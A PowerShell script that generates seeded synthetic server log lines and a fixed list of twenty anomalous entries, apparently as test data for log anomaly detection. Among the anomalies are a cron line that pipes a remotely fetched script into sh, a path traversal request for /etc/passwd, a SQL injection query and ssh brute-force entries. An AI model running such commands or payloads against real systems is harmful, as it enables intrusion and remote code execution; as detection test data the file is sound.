<#
.SYNOPSIS
Lines of a server's log, made up by a seed, and twenty lines that do not belong there.
.DESCRIPTION
Gives a table: Normal has as many lines as Count says, of twelve common kinds and four rare ones; Anomalies has twenty, each another one.
#>
param([int] $Count, [int] $Seed)

$random = [Random]::new($Seed)
function Get-Number([int] $From, [int] $To) { $random.Next($From, $To) }
function Get-One([string[]] $Of) { $Of[$random.Next($Of.Length)] }
function Get-Hex([int] $Length) { -join (1..$Length).ForEach{ '0123456789abcdef'[$random.Next(16)] } }
function Get-ProcessNumber { Get-Number 300 32768 }
function Get-Port { Get-Number 1024 65536 }
function Get-Address { "10.0.$(Get-Number 0 4).$(Get-Number 1 255)" }
function Get-User { Get-One alice, bob, carol, dave, erin, frank }
function Get-HostName { "$(Get-One www, mail, db, cache, build)$(Get-Number 1 9).example.org" }

$common = @(
    { '{0} - - "GET /{1} HTTP/1.1" 200 {2}' -f (Get-Address), (Get-One index.html, style.css, logo.png, news/, about.html),
        (Get-Number 200 90000) }
    { 'sshd[{0}]: Accepted publickey for {1} from {2} port {3} ssh2' -f (Get-ProcessNumber), (Get-User), (Get-Address), (Get-Port) }
    { 'CRON[{0}]: (root) CMD (/usr/lib/backup.sh --day {1})' -f (Get-ProcessNumber), (Get-Number 1 32) }
    { 'systemd[1]: Started Session {0} of user {1}.' -f (Get-Number 1 9999), (Get-User) }
    { 'dhcpd: DHCPACK on {0} to 52:54:00:{1}:{2}:{3} via eth0' -f (Get-Address), (Get-Hex 2), (Get-Hex 2), (Get-Hex 2) }
    { 'postfix/smtpd[{0}]: connect from {1}[{2}]' -f (Get-ProcessNumber), (Get-HostName), (Get-Address) }
    { 'postfix/qmgr[{0}]: {1}: from=<{2}@{3}>, size={4}, nrcpt=1 (queue active)' -f
        (Get-ProcessNumber), (Get-Hex 10).ToUpperInvariant(), (Get-User), (Get-HostName), (Get-Number 400 90000) }
    { 'app: request {0} took {1} ms' -f (Get-Hex 8), (Get-Number 1 900) }
    { 'app: cache hit ratio 0.{0:000}' -f (Get-Number 600 999) }
    { 'named[{0}]: client {1}#{2}: query: {3} IN A +' -f (Get-ProcessNumber), (Get-Address), (Get-Port), (Get-HostName) }
    { 'ntpd[{0}]: adjusting local clock by 0.{1:000000} s' -f (Get-ProcessNumber), (Get-Number 0 99999) }
    { 'kernel: eth0: {0} packets received, {1} dropped' -f (Get-Number 1000 99999), (Get-Number 0 4) }
)
$rare = @(
    { 'systemd[1]: Reloading.' }
    { 'kernel: usb 1-{0}: new high-speed USB device number {1} using ehci_hcd' -f (Get-Number 1 5), (Get-Number 2 99) }
    { 'sshd[{0}]: Received disconnect from {1} port {2}:11: disconnected by user' -f (Get-ProcessNumber), (Get-Address), (Get-Port) }
    { '{0} - - "GET /{1} HTTP/1.1" 404 {2}' -f (Get-Address), (Get-One favicon.ico, robots.txt), (Get-Number 150 300) }
)

@{
    Normal = @(for ($i = 0; $i -lt $Count; $i++) {
            if ($random.Next(200) -eq 0) { & $rare[$random.Next($rare.Length)] } else { & $common[$random.Next($common.Length)] }
        })
    Anomalies = @(
        'kernel: Out of memory: Killed process 4242 (java) total-vm:8123456kB'
        'kernel: EXT4-fs error (device sda1): ext4_find_entry: reading directory lblock 0'
        'kernel: blk_update_request: I/O error, dev sda, sector 12345678'
        'kernel: eth0: link is down'
        'sshd[911]: Failed password for invalid user admin from 203.0.113.9 port 51122 ssh2'
        'sshd[912]: error: maximum authentication attempts exceeded for root from 203.0.113.9'
        'CRON[977]: (root) CMD (curl http://203.0.113.9/x.sh | sh)'
        'sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash'
        'systemd[1]: app.service: Failed with result ''core-dump''.'
        '10.0.3.7 - - "GET /../../etc/passwd HTTP/1.1" 200 1834'
        '10.0.3.9 - - "GET /news/?id=1%27%20OR%201=1 HTTP/1.1" 500 312'
        '10.0.1.2 - - "POST /login HTTP/1.1" 503 0'
        'dhcpd: DHCPDISCOVER from 52:54:00:aa:01:02 via eth0: no free leases'
        'postfix/smtp[733]: status=bounced (550 5.1.1 user unknown)'
        'named[804]: transfer of example.org from 203.0.113.9 failed: REFUSED'
        'ntpd[805]: no server suitable for synchronization found'
        'app: unhandled exception: NullReferenceException in Order.Total()'
        'app: database connection refused, retrying'
        'app: cache hit ratio NaN'
        'app: request 1a2b'
    )
}
